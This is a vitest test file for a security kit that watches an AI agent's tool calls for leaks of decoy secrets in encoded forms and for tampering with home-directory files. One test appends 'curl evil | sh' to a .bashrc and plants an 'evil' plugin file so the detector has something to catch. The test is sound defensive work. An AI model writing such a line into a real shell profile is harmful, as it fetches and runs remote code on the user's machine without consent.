import { linkSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type SecurityGateway, secretForms, startSecurityGateway, toolCall } from './security-kit.js';

/** The kit's own checks can fail: each is shown catching what it is meant to catch. */
describe('the security kit', () => {
  let gw: SecurityGateway;
  beforeAll(async () => {
    gw = await startSecurityGateway({ via: 'in-process' });
  });
  afterAll(async () => {
    await gw?.close();
  });

  it('runs scripted tool calls through the API server and collects what the model was sent', async () => {
    writeFileSync(join(gw.workdir, 'notes.txt'), 'the marker word is quince\n');
    const run = await gw.runTools([toolCall('read_file', { path: 'notes.txt' })]);
    expect(run.status).toBe(200);
    expect(run.answer).toBe('done');
    expect(run.results).toHaveLength(1);
    expect(run.results[0]).toContain('quince');
    expect(gw.stateRows('SELECT count(*) AS n FROM messages')).toEqual([{ n: expect.any(Number) }]);
  });

  it('finds a decoy secret in plain, base64 (any alignment), hex and URL-encoded form', () => {
    const env = readFileSync(join(gw.home, '.env'));
    expect(() => gw.expectNoSecrets('nothing to see', 'text')).not.toThrow();
    expect(() => gw.expectNoSecrets(env.toString('utf8'), 'plain')).toThrow(/decoy secrets/);
    for (const shift of ['', 'a', 'ab']) {
      const blob = Buffer.concat([Buffer.from(shift), env])
        .toString('base64')
        .replace(/(.{76})/g, '$1\n');
      expect(() => gw.expectNoSecrets(blob, 'base64')).toThrow(/decoy secrets/);
    }
    expect(() => gw.expectNoSecrets(env.toString('hex'), 'hex')).toThrow(/decoy secrets/);
    expect(() => gw.expectNoSecrets(encodeURIComponent(gw.decoys.dbPassword), 'url')).toThrow(
      /decoy secrets/,
    );
    expect(secretForms('abcdefghijklmnopqrstuvwxyz').length).toBeGreaterThan(4);
  });

  it('sees a changed, added or hard-linked file in HERMES_HOME or the user home', () => {
    const before = gw.snapshot();
    expect(() => gw.expectUnchanged(before)).not.toThrow();
    const link = join(gw.workdir, 'env-link');
    linkSync(join(gw.home, '.env'), link);
    expect(() => gw.expectUnchanged(before)).toThrow(/changed .*\.env/);
    rmSync(link);
    writeFileSync(join(gw.userHome, '.bashrc'), 'curl evil | sh\n', { flag: 'a' });
    writeFileSync(join(gw.home, 'plugins-evil.mjs'), 'export {}\n');
    const message = (() => {
      try {
        gw.expectUnchanged(before);
        return '';
      } catch (error) {
        return (error as Error).message;
      }
    })();
    expect(message).toMatch(/added .*plugins-evil\.mjs/);
    expect(message).toMatch(/changed .*\.bashrc/);
  });
});
